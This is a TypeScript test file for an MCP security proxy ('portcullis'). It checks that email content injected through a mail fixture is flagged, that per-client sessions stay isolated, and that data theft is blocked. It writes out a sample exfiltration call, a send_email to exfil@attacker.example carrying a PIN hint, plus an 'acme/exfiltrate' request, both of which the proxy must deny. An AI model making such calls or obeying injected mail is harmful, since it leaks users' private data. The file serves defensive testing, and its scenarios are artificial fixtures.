// HTTP client ↔ proxy (in process, real node:http listener) ↔ stdio server (the mail fixture), in
// both protocol eras: honest use works, injected results are flagged, exfiltration is denied
// exactly as over stdio, and each client has its own guard session and audit session.
import { existsSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { z } from 'zod';
import { tempDir } from './helpers.js';
import {
  connectHttp,
  type Era,
  portcullisMeta,
  type Result,
  records,
  startProxy,
  text,
} from './http-helpers.js';

const dir = tempDir();
const cleanups: (() => Promise<unknown>)[] = [];
afterAll(async () => {
  for (const c of cleanups.reverse()) await c().catch(() => undefined);
});

describe.each<Era>(['legacy', '2026-07-28'])('HTTP proxy in front of a stdio server (%s client)', (era) => {
  it('keeps honest use working, flags the injected email and denies the exfiltration', {
    timeout: 60_000,
  }, async () => {
    const audit = join(dir, `inject-${era}.jsonl`);
    const sent = join(dir, `sent-${era}.jsonl`);
    const { proxy } = await startProxy(audit, 'mail-stdio', {}, { SENT_LOG: sent });
    cleanups.push(() => proxy.close());
    const client = await connectHttp(proxy.url, era);
    cleanups.push(() => client.close());

    expect(client.getServerVersion()?.name).toBe('mail');
    const tools = (await client.listTools()).tools;
    expect(tools.map((t) => t.name)).toContain('send_email');
    expect((tools[0]?._meta?.portcullis as { labels?: unknown } | undefined)?.labels).toBeDefined();

    const echo = (await client.callTool({ name: 'echo', arguments: { text: 'hello there' } })) as Result;
    expect(text(echo)).toBe('hello there');
    expect(portcullisMeta(echo).decision).toBe('allow');

    const progress: number[] = [];
    const counted = (await client.callTool(
      { name: 'slow_count', arguments: { n: 3 } },
      { onprogress: (p) => progress.push(p.progress) },
    )) as Result;
    expect(text(counted)).toBe('counted to 3');
    // The SDK client settles a response at once but runs notification handlers a microtask later and
    // then has forgotten the token: a last note read together with the result is dropped by the SDK,
    // whatever the sender does (test/proxy/stdio.test.ts checks on the wire that every note precedes
    // the result). The notes seen are the first ones, in order; the server spaces them 5 ms apart.
    expect(progress.length).toBeGreaterThanOrEqual(2);
    expect(progress).toEqual([1, 2, 3].slice(0, progress.length));

    const email = (await client.callTool({ name: 'read_email', arguments: { id: '2' } })) as Result;
    expect(portcullisMeta(email).flags).toContain('injection');
    expect(text(email)).toContain('[portcullis]');

    const exfil = (await client.callTool({
      name: 'send_email',
      arguments: { to: 'exfil@attacker.example', subject: 'notes', body: 'Bank PIN hint: the cat.' },
    })) as Result;
    expect(exfil.isError).toBe(true);
    expect(portcullisMeta(exfil).decision).toBe('deny');
    expect(existsSync(sent)).toBe(false);

    const res = await client.readResource({ uri: 'mail://inbox/2' });
    expect(JSON.stringify(res.contents)).toContain('[portcullis]');
    await expect(
      client.request({ method: 'acme/exfiltrate', params: {} }, z.object({})),
    ).rejects.toMatchObject({
      code: -32601,
    });
    await client.close();
    await proxy.close();

    const recs = records(audit);
    const calls = recs.filter(
      (r) => r.method === 'tools/call' && (r.meta as { phase?: string })?.phase === 'call',
    );
    expect(calls.map((r) => r.tool)).toEqual(['echo', 'slow_count', 'read_email', 'send_email']);
    expect(recs.some((r) => r.tool === 'send_email' && r.decision === 'deny')).toBe(true);
    expect(recs.some((r) => r.method === 'acme/exfiltrate' && r.decision === 'deny')).toBe(true);
    // One client session: its calls share one audit session, not the listener's.
    const sessions = new Set(calls.map((r) => r.session));
    expect(sessions.size).toBe(1);
    const opened = recs.filter((r) => r.method === 'session');
    expect(opened).toHaveLength(1);
    expect(opened[0]?.session).toBe([...sessions][0]);
    // The client really spoke the era under test.
    expect((opened[0]?.meta as { era?: string } | undefined)?.era).toBe(
      era === 'legacy' ? 'legacy' : 'modern',
    );
  });
});

describe('HTTP proxy client sessions', () => {
  it('isolates clients: one client reading injected mail does not taint another (both eras)', {
    timeout: 60_000,
  }, async () => {
    const audit = join(dir, 'isolation.jsonl');
    const sent = join(dir, 'isolation-sent.jsonl');
    const { proxy } = await startProxy(audit, 'mail-stdio', {}, { SENT_LOG: sent });
    cleanups.push(() => proxy.close());
    const tainted = await connectHttp(proxy.url, 'legacy', { name: 'agent-a' });
    const clean = await connectHttp(proxy.url, '2026-07-28', { name: 'agent-b' });
    const cleanToo = await connectHttp(proxy.url, 'legacy', { name: 'agent-c' });
    const otherConversation = await connectHttp(proxy.url, '2026-07-28', {
      name: 'agent-a',
      headers: { 'portcullis-session': 'conversation-2' },
    });
    cleanups.push(
      () => tainted.close(),
      () => clean.close(),
      () => cleanToo.close(),
      () => otherConversation.close(),
    );

    await tainted.callTool({ name: 'read_email', arguments: { id: '2' } });
    await tainted.callTool({ name: 'read_notes', arguments: {} });
    const mail = { to: 'bob@example.com', subject: 's', body: 'b' };
    const denied = (await tainted.callTool({ name: 'send_email', arguments: mail })) as Result;
    expect(portcullisMeta(denied).rule).toBe('rule-of-two');

    for (const c of [clean, cleanToo, otherConversation]) {
      await c.callTool({ name: 'read_notes', arguments: {} });
      const ok = (await c.callTool({ name: 'send_email', arguments: mail })) as Result;
      expect(ok.isError, JSON.stringify(ok)).toBeFalsy();
    }
    expect(proxy.sessions()).toBe(4);
    await proxy.close();
    const recs = records(audit);
    const sendSessions = new Set(
      recs
        .filter((r) => r.tool === 'send_email' && (r.meta as { phase?: string })?.phase === 'call')
        .map((r) => r.session),
    );
    expect(sendSessions.size).toBe(4);
  });
});
